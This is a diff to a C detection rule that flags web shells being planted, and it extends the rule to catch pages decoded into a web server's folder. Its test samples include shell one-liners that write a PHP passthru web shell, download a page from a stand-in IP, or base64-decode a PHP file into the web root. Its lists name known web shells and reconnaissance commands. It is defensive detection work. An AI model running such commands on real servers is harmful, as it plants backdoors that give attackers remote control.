@@ -4,6 +4,7 @@
 static const char *const words[] = {"<?php", "<%", "c99", "r57", "b374k", "weevely", "wso.php", "wso2", "/www", "/htdocs", "webapps", "/html", "sh", NULL};
 static const char *const known[] = {"c99.php", "c99shell", "r57.php", "r57shell", "b374k", "weevely", "wso.php", "wso2.php", "p0wny", "antsword", NULL};
 static const char *const runs[] = {"eval", "system", "passthru", "shell_exec", "assert", "popen", "proc_open", "exec", "getRuntime", NULL};
+static const char *const decoders[] = {"base64", "base32", "xxd", "openssl", "uudecode", NULL};
 static const char *const web_users[] = {"www-data", "apache", "nginx", "httpd", "lighttpd", "http", "www", "tomcat", NULL};
 static const char *const first_commands[] = {"id", "whoami", "uname", "pwd", "ifconfig", "netstat", "wget", "curl", "tftp", "nc", "cat", "ls", "ps", "w", NULL};
 
@@ -27,6 +28,9 @@ static const char *planted(const struct command *command)
 
     if (command_downloads(command, &source, &target) && target.bytes && is_web_page(target))
         return "a page is downloaded into the web server's folder";
+    for (size_t i = 0; i < command->output_count; i++)
+        if (text_among(command->name, decoders) && is_web_page(command->outputs[i]))
+            return "a page is decoded into the web server's folder";
     for (size_t i = 0; i < command->word_count; i++) {
         struct text word = command->words[i];
         for (size_t k = 0; known[k] && !command_only_mentions(command); k++)
@@ -67,6 +71,8 @@ static const struct rule_sample samples[] = {
     {true, "$ sh -c 'echo \"<?php passthru($_GET[0]); ?>\" > /var/www/html/x.php'"},
     {true, "$ wget -O /www/cgi-bin/../status.php http://198.51.100.7/s.txt"},
     {true, "ProcessCreate {\"Executable\":\"/bin/dash\",\"CommandLine\":\"sh -c uname -a; id\",\"UserName\":\"www-data\",\"ProcessId\":9,\"ParentProcessId\":8}"},
+    {true, "$ sh -c echo PD9waHAg | base64 -d > /www/x.php"},
+    {false, "$ sh -c base64 -d /tmp/logo.b64 > /var/www/html/logo.png"},
     {false, "$ wget -O /var/www/html/logo.png https://cdn.example.org/logo.png"},
     {false, "ProcessCreate {\"Executable\":\"/bin/dash\",\"CommandLine\":\"sh -c /usr/sbin/sendmail -t\",\"UserName\":\"www-data\",\"ProcessId\":9,\"ParentProcessId\":8}"},
     {false, "$ php /var/www/html/artisan schedule:run"},
@@ -78,7 +84,7 @@ const struct rule rule_web_shell = {
     .severity = "High",
     .tactics = "Persistence, Execution",
     .techniques = "T1505.003, T0866",
-    .fires = "A page that runs what it is sent is written; a page is downloaded into a web server's folder; the name of a known web shell; a shell "
+    .fires = "A page that runs what it is sent is written; a page is downloaded or decoded into a web server's folder; the name of a known web shell; a shell "
              "of the web server's user that looks around (`id`, `uname`, `wget` …).",
     .spares = "Pictures and data downloaded there; shells of the web server's user that do their work, such as sending mail.",
     .needs = "Processes with their command lines; for the last of these their users.",
